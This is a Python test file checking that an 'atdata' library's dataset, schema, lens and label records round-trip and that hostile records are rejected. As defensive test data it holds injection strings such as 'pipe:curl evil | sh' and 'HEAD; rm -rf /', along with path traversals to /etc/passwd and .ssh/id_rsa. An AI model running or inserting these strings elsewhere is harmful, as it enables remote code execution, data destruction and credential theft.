"""Atmosphere records follow the shipped lexicons, round-trip, and reject hostile input (offline)."""

import base64
import copy
import dataclasses
import hashlib
import io
import json
import tarfile
from typing import Annotated, Any

import msgpack
import numpy as np
import pytest
from numpy.typing import NDArray

from atdata.atmosphere import (
    AtUri,
    BlobRef,
    BlobShard,
    BlobStorage,
    Checksum,
    CodeReference,
    DatasetRecord,
    DatasetSize,
    HttpShard,
    HttpStorage,
    LabelRecord,
    LensRecord,
    RecordValidationError,
    S3Shard,
    S3Storage,
    SchemaRecord,
    validate_record,
)
from atdata.atmosphere.blobs import split_shard
from atdata.atmosphere.lexicon import lexicon, lexicon_ids
from atdata.atmosphere.publish import parse_dataset_ref
from atdata.errors import AtmosphereError, IntegrityError, SourceError
from atdata.schema import Schema, Shape
from atdata.shards.reader import iter_members
from atdata.sources.at import AtBlobSource, blob_cid, blob_url, parse_blob_url, verify_blob

DID = "did:plc:abcdefghijklmnopqrstuvwx"
SCHEMA_URI = f"at://{DID}/science.alt.dataset.schema/bafyreidvom3solo74ylskg44wtyveezacex22b4gneiiurefqdlgjxt7bq"
ENTRY_URI = f"at://{DID}/science.alt.dataset.entry/3n2ukhgqvrc2u"
SHA = hashlib.sha256(b"shard").hexdigest()
CID = blob_cid(b"shard bytes")
NDARRAY_REF = "https://alt.science/schemas/atdata-ndarray-bytes/1.0.0#/$defs/ndarray"


@dataclasses.dataclass
class Inner:
    """A nested part."""

    score: float
    note: str | None = None


@dataclasses.dataclass
class Rich:
    """Every kind of field."""

    image: Annotated[NDArray[np.uint8], Shape(None, None, 3)]
    embedding: NDArray[np.float32]
    anything: NDArray[Any]
    label: int
    caption: str
    raw: bytes
    flag: bool
    tags: list[str]
    extra: dict[str, float]
    inner: Inner
    maybe: int | None
    blob: Any = None
    weight: float = 1.0
    notes: list[str | None] | None = None


def test_every_shipped_lexicon_is_a_version_1_document_named_by_its_path() -> None:
    ids = lexicon_ids()
    for nsid in (
        "science.alt.dataset.schema",
        "science.alt.dataset.entry",
        "science.alt.dataset.lens",
        "science.alt.dataset.label",
        "science.alt.dataset.storageHttp",
        "science.alt.dataset.storageS3",
        "science.alt.dataset.storageBlobs",
    ):
        assert nsid in ids
        assert lexicon(nsid)["id"] == nsid


# --------------------------------------------------------------------------------- schemas
def test_schema_record_round_trips_every_field_kind_exactly() -> None:
    schema = Schema.from_type(Rich)
    record = SchemaRecord.from_schema(schema).to_record()
    validate_record("science.alt.dataset.schema", record)
    # what a PDS gives back: JSON, map keys sorted (DAG-CBOR order)
    wire = json.loads(json.dumps(record, sort_keys=True))
    back = SchemaRecord.from_record(wire).to_schema()
    assert back == schema
    assert [f.name for f in back.fields] == [f.name for f in schema.fields]


def test_array_properties_are_ndarray_refs_carrying_dtype_and_shape() -> None:
    body = SchemaRecord.from_schema(Schema.from_type(Rich)).json_schema
    props = body["properties"]
    assert props["image"] == {"$ref": NDARRAY_REF, "dtype": "|u1", "shape": [None, None, 3]}
    assert props["embedding"] == {"$ref": NDARRAY_REF, "dtype": "<f4"}
    assert props["anything"] == {"$ref": NDARRAY_REF}
    assert body["arrayFormatVersions"] == {"ndarrayBytes": "1.0.0"}
    assert body["$type"] == "science.alt.dataset.schema#jsonSchemaFormat"
    assert props["maybe"] == {"type": "integer", "nullable": True}  # required but nullable
    assert props["weight"] == {"type": "number", "nullable": False}  # has a default, not null
    assert "maybe" in body["required"] and "weight" not in body["required"]


def test_a_schema_record_in_atdata_07_shape_without_dtype_or_shape_is_read() -> None:
    record = {
        "$type": "science.alt.dataset.schema",
        "name": "ImageSample",
        "version": "1.0.0",
        "schemaType": "jsonSchema",
        "schema": {
            "$type": "science.alt.dataset.schema#jsonSchemaFormat",
            "$schema": "http://json-schema.org/draft-07/schema#",
            "type": "object",
            "properties": {
                "image": {"$ref": NDARRAY_REF},
                "label": {"type": "integer"},
                "caption": {"type": "string"},
                "tags": {"type": "array", "items": {"type": "string"}},
                "raw": {"type": "string", "format": "byte", "contentEncoding": "base64"},
            },
            "required": ["image", "label"],
            "arrayFormatVersions": {"ndarrayBytes": "1.0.0"},
        },
        "createdAt": "2025-01-02T03:04:05.678Z",
    }
    schema = SchemaRecord.from_record(record).to_schema()
    kinds = {f.name: (f.type.kind, f.type.optional, f.required) for f in schema.fields}
    assert kinds == {
        "image": ("array", False, True),
        "label": ("int", False, True),
        "caption": ("str", True, False),
        "tags": ("list", True, False),
        "raw": ("bytes", True, False),
    }
    assert schema.field("image").type.dtype is None and schema.field("image").type.shape is None
    cls = schema.to_sample_type()
    assert cls.__name__ == "ImageSample"


def test_display_names_that_are_not_identifiers_become_identifiers() -> None:
    record = SchemaRecord.from_schema(Schema.from_type(Inner)).to_record()
    record["name"] = "My sample: v2"
    assert SchemaRecord.from_record(record).to_schema().name == "My_sample__v2"


def _schema_record() -> dict[str, Any]:
    record = SchemaRecord.from_schema(Schema.from_type(Inner)).to_record()
    del record["schema"]["propertyOrder"]  # so that tests may add properties
    return record


@pytest.mark.parametrize(
    ("mutate", "path"),
    [
        (lambda r: r.pop("version"), "$.version"),
        (lambda r: r.update(name="x" * 101), "$.name"),
        (lambda r: r.update(createdAt="yesterday"), "$.createdAt"),
        (lambda r: r.update(schemaType="avro"), "$.schemaType"),
        (lambda r: r["schema"].update({"$type": "evil#format"}), "$.schema.$type"),
        (lambda r: r["schema"]["properties"].update(__init__={"type": "string"}), "__init__"),
        (lambda r: r["schema"]["properties"].update(bad={"type": "function"}), "bad"),
        (lambda r: r["schema"]["properties"].update(x={"$ref": "file:///etc/passwd"}), "x"),
        (lambda r: r["schema"]["properties"].update(x={"$ref": NDARRAY_REF, "dtype": "O"}), "x"),
        (lambda r: r["schema"]["properties"].update({"a b": {"type": "string"}}), "a b"),
        (lambda r: r["schema"].update(required=["nope"]), "required"),
        (lambda r: r["schema"].update(propertyOrder=["score", "score"]), "propertyOrder"),
        (lambda r: r.update(atdataSchemaVersion=99), "atdataSchemaVersion"),
        (lambda r: r.update(description="\x1b[31mred"), "$.description"),
    ],
)
def test_malformed_schema_records_are_rejected_naming_the_path(mutate: Any, path: str) -> None:
    record = _schema_record()
    mutate(record)
    with pytest.raises(RecordValidationError) as err:
        SchemaRecord.from_record(record, uri=SCHEMA_URI)
    assert SCHEMA_URI in str(err.value)
    assert path in str(err.value)


def test_deeply_nested_schemas_are_refused() -> None:
    record = _schema_record()
    prop: dict[str, Any] = {"type": "string"}
    for _ in range(40):
        prop = {"type": "array", "items": prop}
    record["schema"]["properties"]["deep"] = prop
    with pytest.raises(RecordValidationError, match="nested more than"):
        SchemaRecord.from_record(record)


def test_identical_schemas_get_identical_record_keys_and_different_ones_do_not() -> None:
    a = SchemaRecord.from_schema(Schema.from_type(Inner))
    b = SchemaRecord.from_schema(Schema.from_type(Inner))
    assert a.created_at != b.created_at or a == b
    assert a.record_key() == b.record_key()
    assert a.record_key().startswith("bafyrei")
    other = SchemaRecord.from_schema(Schema.from_type(Inner).with_version("1.1.0"))
    assert other.record_key() != a.record_key()


# --------------------------------------------------------------------------------- entries
def _entry(storage: Any) -> DatasetRecord:
    return DatasetRecord(
        name="team/mnist",
        schema_ref=SCHEMA_URI,
        storage=storage,
        description="digits",
        tags=("vision",),
        license="MIT",
        size=DatasetSize(samples=10, bytes=100, shards=1),
        metadata={"source": "test", "n": 3},
    )


STORAGES = [
    HttpStorage((HttpShard("https://data.example.com/a-000000.tar", Checksum.sha256(SHA)),)),
    S3Storage(
        "my-bucket",
        (S3Shard("datasets/a-000000.tar", Checksum.sha256(SHA)),),
        region="us-east-1",
        endpoint="http://127.0.0.1:9000",
    ),
    BlobStorage((BlobShard(BlobRef(CID, 11)), BlobShard(BlobRef(CID, 11), Checksum.sha256(SHA)))),
]


@pytest.mark.parametrize("storage", STORAGES, ids=["http", "s3", "blobs"])
def test_entry_records_round_trip_with_each_storage(storage: Any) -> None:
    entry = _entry(storage)
    record = entry.to_record()
    assert record["storage"]["$type"] == storage.TYPE
    back = DatasetRecord.from_record(json.loads(json.dumps(record)), uri=ENTRY_URI)
    assert back == entry
    assert back.same_content(dataclasses.replace(entry, created_at="2020-01-01T00:00:00Z"))


def test_entry_shard_urls_by_storage_kind() -> None:
    assert STORAGES[0].shard_urls(DID) == ["https://data.example.com/a-000000.tar"]
    assert STORAGES[1].shard_urls(DID) == ["s3://my-bucket/datasets/a-000000.tar"]
    assert (
        STORAGES[2].shard_urls(DID, "http://localhost:1234")
        == [f"at://{DID}/blob/{CID}?pds=http%3A%2F%2Flocalhost%3A1234"] * 2
    )


def test_entry_metadata_as_07_msgpack_bytes_is_decoded() -> None:
    record = _entry(STORAGES[0]).to_record()
    packed = msgpack.packb({"split": "train", "source_uri": "x"})
    record["metadata"] = {"$bytes": base64.b64encode(packed).decode().rstrip("=")}
    assert DatasetRecord.from_record(record).metadata == {"split": "train", "source_uri": "x"}


HOSTILE_ENTRIES = [
    ("pipe:", lambda r: r["storage"]["shards"][0].update(url="pipe:curl evil | sh"), "url"),
    ("file", lambda r: r["storage"]["shards"][0].update(url="file:///etc/passwd"), "url"),
    ("creds", lambda r: r["storage"]["shards"][0].update(url="https://u:p@x.com/a.tar"), "url"),
    ("space", lambda r: r["storage"]["shards"][0].update(url="https://x.com/a .tar"), "url"),
    (
        "long url",
        lambda r: r["storage"]["shards"][0].update(url="https://x.com/" + "a" * 3000),
        "url",
    ),
    ("digest", lambda r: r["storage"]["shards"][0]["checksum"].update(digest="zz"), "digest"),
    ("name ..", lambda r: r.update(name="../../etc/passwd"), "$.name"),
    ("name abs", lambda r: r.update(name="/etc/passwd"), "$.name"),
    ("name ctl", lambda r: r.update(name="a\x00b"), "$.name"),
    ("name long", lambda r: r.update(name="n" * 201), "$.name"),
    ("desc long", lambda r: r.update(description="d" * 5001), "$.description"),
    ("tags", lambda r: r.update(tags=["t"] * 31), "$.tags"),
    ("schemaRef", lambda r: r.update(schemaRef="https://evil.example.com/schema"), "$.schemaRef"),
    ("schemaRef kind", lambda r: r.update(schemaRef=ENTRY_URI), "$.schemaRef"),
    (
        "storage type",
        lambda r: r["storage"].update({"$type": "science.alt.dataset.storageExec"}),
        "storage",
    ),
    ("empty shards", lambda r: r["storage"].update(shards=[]), "shards"),
    ("size", lambda r: r.update(size={"samples": -1}), "samples"),
    ("type", lambda r: r.update({"$type": "science.alt.dataset.lens"}), "$type"),
    ("metadata", lambda r: r.update(metadata="not an object"), "metadata"),
]


@pytest.mark.parametrize(
    ("case", "mutate", "path"), HOSTILE_ENTRIES, ids=[c[0] for c in HOSTILE_ENTRIES]
)
def test_hostile_entry_records_are_rejected(case: str, mutate: Any, path: str) -> None:
    record = _entry(STORAGES[0]).to_record()
    mutate(record)
    with pytest.raises(RecordValidationError) as err:
        DatasetRecord.from_record(record, uri=ENTRY_URI)
    assert path in str(err.value) and ENTRY_URI in str(err.value)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("bucket", "../bucket"),
        ("endpoint", "ftp://x.example.com"),
        ("key", "../../etc/passwd"),
        ("key", "/abs/key"),
    ],
)
def test_hostile_s3_storage_is_rejected(field: str, value: str) -> None:
    record = _entry(STORAGES[1]).to_record()
    if field == "key":
        record["storage"]["shards"][0]["key"] = value
    else:
        record["storage"][field] = value
    with pytest.raises(RecordValidationError):
        DatasetRecord.from_record(record)


def test_blob_refs_must_carry_cids_and_fit_the_lexicon_limit() -> None:
    record = _entry(STORAGES[2]).to_record()
    bad = copy.deepcopy(record)
    bad["storage"]["blobs"][0]["blob"]["ref"]["$link"] = "../../etc/passwd"
    with pytest.raises(RecordValidationError, match="ref"):
        DatasetRecord.from_record(bad)
    big = copy.deepcopy(record)
    big["storage"]["blobs"][0]["blob"]["size"] = 10**12
    with pytest.raises(RecordValidationError, match="limit"):
        DatasetRecord.from_record(big)


def test_writing_an_invalid_record_fails_before_anything_is_sent() -> None:
    with pytest.raises(RecordValidationError):
        _entry(HttpStorage((HttpShard("pipe:ls", Checksum.sha256(SHA)),))).to_record()
    with pytest.raises(RecordValidationError):
        dataclasses.replace(_entry(STORAGES[0]), name="a/../b").to_record()


# ---------------------------------------------------------------------------- lens, label
def _lens() -> LensRecord:
    ref = CodeReference(
        "https://github.com/org/lenses", "a" * 40, "lenses/vision.py:to_gray", "main"
    )
    return LensRecord("to_gray", SCHEMA_URI, SCHEMA_URI, ref, ref, description="grayscale")


def test_lens_records_round_trip_as_code_references() -> None:
    lens = _lens()
    assert LensRecord.from_record(json.loads(json.dumps(lens.to_record()))) == lens


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("repository", "file:///home/me/repo"),
        ("repository", "javascript:alert(1)"),
        ("commit", "HEAD; rm -rf /"),
        ("path", "../../.ssh/id_rsa"),
        ("path", "/etc/passwd"),
    ],
)
def test_hostile_code_references_are_rejected(key: str, value: str) -> None:
    record = _lens().to_record()
    record["getterCode"][key] = value
    with pytest.raises(RecordValidationError, match="getterCode"):
        LensRecord.from_record(record)


def test_a_lens_record_carrying_code_is_not_a_code_reference() -> None:
    record = _lens().to_record()
    record["getterCode"] = "def get(x): import os; os.system('boom')"
    with pytest.raises(RecordValidationError, match="getterCode"):
        LensRecord.from_record(record)


def test_label_records_round_trip_and_point_only_at_entries() -> None:
    label = LabelRecord("mnist", ENTRY_URI, "3", "third")
    assert LabelRecord.from_record(label.to_record()) == label
    record = label.to_record()
    record["datasetUri"] = SCHEMA_URI
    with pytest.raises(RecordValidationError, match="datasetUri"):
        LabelRecord.from_record(record)
    record["datasetUri"] = ENTRY_URI
    record["version"] = "1@2"
    with pytest.raises(RecordValidationError, match="version"):
        LabelRecord.from_record(record)


# ----------------------------------------------------------------------------- identifiers
def test_at_uris_parse_and_refuse_junk() -> None:
    u = AtUri.parse(ENTRY_URI)
    assert (u.did, u.collection, u.rkey) == (DID, "science.alt.dataset.entry", "3n2ukhgqvrc2u")
    assert str(u) == ENTRY_URI
    assert AtUri.parse("at://alice.test").collection is None
    for bad in [
        "https://x.com",
        "at://",
        "at://did:plc:x/not-an-nsid/k",
        f"{ENTRY_URI}?q=1",
        f"{ENTRY_URI}/x",
    ]:
        with pytest.raises(AtmosphereError):
            AtUri.parse(bad)


def test_dataset_refs_parse_handle_name_and_version() -> None:
    assert parse_dataset_ref("@Alice.Test/mnist") == ("alice.test", "mnist", None)
    assert parse_dataset_ref("@alice.test/team/mnist@3") == ("alice.test", "team/mnist", "3")
    for bad in ["alice.test/mnist", "@alice/mnist", "@alice.test/../x", "@alice.test/"]:
        with pytest.raises(AtmosphereError):
            parse_dataset_ref(bad)


# ----------------------------------------------------------------------------------- blobs
def test_blob_cids_are_raw_sha256_cidv1_and_verify_their_bytes() -> None:
    data = b"hello world"
    assert blob_cid(data) == "bafkreifzjut3te2nhyekklss27nh3k72ysco7y32koao5eei66wof36n5e"
    verify_blob(data, blob_cid(data))
    with pytest.raises(IntegrityError, match="do not match"):
        verify_blob(b"hello world!", blob_cid(data))
    with pytest.raises(IntegrityError, match="codec"):
        verify_blob(data, "bafyreidvom3solo74ylskg44wtyveezacex22b4gneiiurefqdlgjxt7bq")


def test_blob_urls_round_trip_and_refuse_record_uris_and_bad_hints() -> None:
    url = blob_url(DID, CID, "http://localhost:2583")
    assert parse_blob_url(url) == (DID, CID, "http://localhost:2583")
    assert parse_blob_url(f"at://{DID}/blob/{CID}") == (DID, CID, None)
    with pytest.raises(SourceError, match="load_dataset"):
        parse_blob_url(ENTRY_URI)
    with pytest.raises(SourceError, match="pds"):
        parse_blob_url(f"at://{DID}/blob/{CID}?pds=file%3A%2F%2F%2Fetc")
    with pytest.raises(SourceError):
        parse_blob_url(f"at://{DID}/blob/../../etc")


def test_a_blob_url_without_a_pds_or_locator_says_how_to_give_one() -> None:
    src = AtBlobSource(f"at://{DID}/blob/{CID}")
    with pytest.raises(SourceError, match="activate"):
        src.fetch()


def _tar(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, body in members:
            info = tarfile.TarInfo(name)
            info.size = len(body)
            if len(name) > 100:
                info.pax_headers = {"comment": "long"}
            tar.addfile(info, io.BytesIO(body))
    return buf.getvalue()


def test_splitting_a_shard_keeps_every_member_byte_for_byte() -> None:
    members = [(f"{i:06d}.msgpack", bytes([i]) * (200 + 150 * i)) for i in range(12)]
    members.append(("k" * 120 + ".msgpack", b"long name"))
    data = _tar(members)
    pieces = split_shard(data, 5000, where="test.tar")
    assert len(pieces) > 1 and all(len(p) <= 5000 for p in pieces)
    got = []
    for i, piece in enumerate(pieces):
        got += [(m.name, bytes(b)) for m, b in iter_members(_Src(piece, f"piece{i}"))]
        with tarfile.open(fileobj=io.BytesIO(piece)) as tar:  # each piece is a valid tar
            assert len(tar.getmembers()) >= 1
    assert got == members
    with pytest.raises(AtmosphereError, match="alone exceeds"):
        split_shard(data, 2500, where="test.tar")


class _Src:
    def __init__(self, data: bytes, url: str) -> None:
        self.data, self.url = data, url

    def local_path(self) -> None:
        return None

    def open(self) -> io.BytesIO:
        return io.BytesIO(self.data)

    def read_range(self, start: int, length: int) -> bytes:
        return self.data[start : start + length]

    def read_sidecar(self, suffix: str) -> None:
        return None


def test_handles_and_at_uris_are_atmosphere_references_and_local_is_not() -> None:
    from atdata.dataset_refs import is_atmosphere_reference

    assert is_atmosphere_reference("@alice.test/mnist")
    assert is_atmosphere_reference("@foo/bar")  # an invalid handle: resolving it says so
    assert is_atmosphere_reference(ENTRY_URI)
    assert not is_atmosphere_reference("@local/mnist")
    assert not is_atmosphere_reference("./data/x.tar")
